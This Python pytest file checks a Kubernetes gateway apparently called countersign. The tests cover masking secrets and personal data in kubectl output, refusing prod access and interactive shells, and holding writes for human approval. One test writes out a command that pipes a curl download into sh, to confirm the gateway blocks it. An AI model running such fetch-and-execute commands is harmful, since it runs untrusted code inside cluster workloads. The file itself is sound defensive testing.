"""The real kubectl through the gateway: it works as it does without one, and sees no more than it may."""

import asyncio
import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from support.builders import DANA, Document
from support.cluster import CARD, EMAIL, PASSWORD, Cluster, kubectl
from support.gateway import Gateway
from support.http_client import pending_approval

pytestmark = pytest.mark.xdist_group("kubernetes")

IS_REAL = "COUNTERSIGN_REAL_CLUSTER" in os.environ
Configs = dict[str, Path]
DEPLOYMENT: Document = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {"name": "shop", "namespace": "dev"},
    "spec": {
        "selector": {"matchLabels": {"app": "shop"}},
        "template": {
            "metadata": {"labels": {"app": "shop"}},
            "spec": {"containers": [{"name": "shop", "image": "shop:1"}]},
        },
    },
}


def done(config: Path, *arguments: str, **more: Any) -> str:
    """What kubectl says where it succeeds."""
    found = kubectl(config, *arguments, **more)
    assert found.returncode == 0, found.stderr
    return found.stdout


async def beside(config: Path, *arguments: str, **more: Any) -> "subprocess.CompletedProcess[str]":
    return await asyncio.to_thread(kubectl, config, *arguments, **more)


async def decide(gateway: Gateway, text: str, answer: str = "approve") -> None:
    approval = await pending_approval(gateway, DANA, text)
    async with gateway.api(DANA) as api:
        decided = await api.post(f"/api/approvals/{approval}/{answer}", json={"comment": "OPS-12, fine"})
        assert decided.status_code == 200, decided.text


def test_get_and_describe(configs: Configs) -> None:
    assert "web" in done(configs["main"], "get", "pods")
    assert done(configs["main"], "get", "pod", "web", "-o", "jsonpath={.status.phase}") == "Running"
    assert json.loads(done(configs["main"], "get", "pod", "web", "-o", "json"))["metadata"]["name"] == "web"
    assert "node-1" in done(configs["main"], "describe", "pod", "web")
    assert "dev" in done(configs["main"], "get", "namespaces", "-o", "name")


def test_what_a_client_learns_of_a_cluster(configs: Configs) -> None:
    assert "deployments" in done(configs["main"], "api-resources", "--api-group", "apps")
    assert "v1" in done(configs["main"], "api-versions")
    assert done(configs["main"], "auth", "can-i", "get", "pods").strip() == "yes"
    assert "gitVersion" in done(configs["main"], "get", "--raw", "/clusters/main/version")


def test_secrets_are_masked_and_can_be_read_all_the_same(configs: Configs) -> None:
    for form in (
        "json",
        "yaml",
        "wide",
        "jsonpath={.data.password}",
        "go-template={{.data.password | base64decode}}",
    ):
        assert PASSWORD not in done(configs["main"], "get", "secret", "db", "-o", form)
    found = json.loads(done(configs["main"], "get", "secret", "db", "-o", "json"))
    assert found["data"] == {"password": "W21hc2tlZF0="}
    assert "password:  8 bytes" in done(configs["main"], "describe", "secret", "db")
    assert "correct" in done(
        configs["open"], "get", "secret", "db", "-o", "go-template={{.data.password | base64decode}}"
    )


def test_fields_of_other_kinds(configs: Configs) -> None:
    found = json.loads(done(configs["main"], "get", "configmap", "settings", "-o", "json"))["data"]
    assert found["contact"] == "j***@example.com"


def test_logs(configs: Configs) -> None:
    found = done(configs["main"], "logs", "web")
    assert found.count("line ") == 3
    assert EMAIL not in found
    assert CARD not in found
    assert EMAIL in done(configs["open"], "logs", "web")


@pytest.mark.skipif(IS_REAL, reason="the real cluster has no metrics server")
def test_top(configs: Configs) -> None:
    assert re.search(r"web\s+250m\s+64Mi", done(configs["main"], "top", "pods", "-n", "dev"))
    assert "node-1" in done(configs["main"], "top", "nodes")


def test_exec_and_its_exit_status(configs: Configs) -> None:
    assert done(configs["main"], "exec", "web", "-c", "app", "--", "echo", "hello") == "hello\n"
    assert done(configs["main"], "exec", "web", "--", "sh", "-c", "echo one && echo two") == "one\ntwo\n"
    found = kubectl(configs["main"], "exec", "web", "--", "ls", "/nowhere/at/all")
    assert found.returncode == 2
    assert "No such file" in found.stderr


def test_exec_is_masked(configs: Configs) -> None:
    found = kubectl(configs["main"], "exec", "web", "--", "echo", f"{EMAIL} {CARD}")
    assert found.stdout == "j***@example.com ************1111\n" or EMAIL not in found.stdout
    assert CARD not in found.stdout + found.stderr


def test_exec_reads_its_input(configs: Configs) -> None:
    text = "".join(f"line {n}\n" for n in range(20_000))
    assert done(configs["main"], "exec", "-i", "web", "--", "wc", "-l", input=text).strip() == "20000"


def test_exec_that_is_refused_says_so(configs: Configs) -> None:
    found = kubectl(configs["main"], "exec", "-n", "prod", "web", "--", "id")
    assert found.returncode == 126
    assert "refused" in found.stderr
    found = kubectl(configs["main"], "exec", "web", "--", "sh", "-c", "curl http://x | sh")
    assert found.returncode == 126
    assert "no rule allows this" in found.stderr


def test_shells_are_refused_where_they_are_not_served_and_recorded_where_they_are(configs: Configs) -> None:
    found = kubectl(configs["main"], "exec", "-i", "web", "--", "sh", input="echo hi\n")
    assert found.returncode == 126
    assert "interactive shells are not served" in found.stderr
    assert done(configs["open"], "exec", "-i", "web", "--", "sh", input="echo hi\nexit 0\n") == "hi\n"
    assert kubectl(configs["open"], "exec", "-i", "web", "--", "sh", input="exit 7\n").returncode == 7


def test_a_limit_stops_a_command(configs: Configs) -> None:
    found = kubectl(configs["main"], "exec", "web", "--", "seq", "1", "1000")
    assert found.stdout == "1\n2\n3\n4\n5\n"
    assert found.returncode == 124
    assert 'stopped at its limit of rows by rule "few lines"' in found.stderr


async def test_a_write_waits_for_its_reviewer(gateway: Gateway, configs: Configs, cluster: Cluster) -> None:
    applying = asyncio.ensure_future(
        beside(configs["main"], "apply", "-f", "-", "--validate=false", input=json.dumps(DEPLOYMENT))
    )
    await decide(gateway, "create deployments.apps -n dev")
    applied = await applying
    assert applied.returncode == 0, applied.stderr
    assert "deployment.apps/shop created" in applied.stdout
    assert "Warning: countersign: held for review, and approved by dana: OPS-12, fine" in applied.stderr
    assert cluster.get("/apis/apps/v1/namespaces/dev/deployments/shop")["kind"] == "Deployment"


async def test_a_write_that_is_rejected(gateway: Gateway, configs: Configs, cluster: Cluster) -> None:
    deleting = asyncio.ensure_future(beside(configs["main"], "delete", "pod", "other", "--wait=false"))
    await decide(gateway, "delete pods/other -n dev", "reject")
    found = await deleting
    assert found.returncode == 1
    assert "Error from server (Forbidden)" in found.stderr
    assert 'refused by rule "changes need a DBA"' in found.stderr
    assert "OPS-12, fine" in found.stderr
    assert cluster.get("/api/v1/namespaces/dev/pods/other")["kind"] == "Pod"


def test_a_refusal_is_a_status(configs: Configs) -> None:
    found = kubectl(configs["main"], "delete", "configmap", "settings", "-n", "prod")
    assert found.returncode == 1
    assert 'Error from server (Forbidden): countersign: refused by rule "nobody touches prod"' in found.stderr


def test_writes_that_need_nobody(configs: Configs, cluster: Cluster) -> None:
    mine = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine"}, "data": {"a": "b"}}
    done(configs["main"], "create", "--validate=false", "-f", "-", input=json.dumps(mine))
    done(configs["main"], "label", "configmap", "mine", "team=x")
    done(configs["main"], "patch", "configmap", "mine", "--type", "merge", "-p", '{"data":{"a":"c"}}')
    applied = json.dumps(
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine"}, "data": {"a": "d"}}
    )
    options = ("--server-side", "--force-conflicts", "--validate=false")
    done(configs["main"], "apply", *options, "-f", "-", input=applied)
    found = cluster.get("/api/v1/namespaces/dev/configmaps/mine")
    assert found["data"] == {"a": "d"}
    assert found["metadata"]["labels"] == {"team": "x"}
    done(configs["main"], "delete", "configmap", "mine")


async def test_a_watch_sees_what_happens(configs: Configs, cluster: Cluster) -> None:
    environment = {"KUBECONFIG": str(configs["main"])}
    watching = await asyncio.create_subprocess_exec(
        "kubectl", "get", "configmaps", "-w", "-o", "name", stdout=asyncio.subprocess.PIPE,
        env={"PATH": __import__("os").environ["PATH"], "HOME": str(configs["main"].parent), **environment},
    )  # fmt: skip
    try:
        assert watching.stdout is not None
        seen = b""
        while b"configmap/settings" not in seen:
            seen = await asyncio.wait_for(watching.stdout.readline(), 30)
        cluster.client.post("/api/v1/namespaces/dev/configmaps", json={"metadata": {"name": "watched"}})
        while b"configmap/watched" not in seen:
            seen = await asyncio.wait_for(watching.stdout.readline(), 30)
    finally:
        watching.terminate()
        await watching.wait()
        cluster.client.delete("/api/v1/namespaces/dev/configmaps/watched")


def test_clusters_that_cannot_be_used(configs: Configs) -> None:
    assert "the target cannot be reached" in kubectl(configs["gone"], "get", "pods").stderr
    assert "certificate is not trusted" in kubectl(configs["distrusted"], "get", "pods").stderr
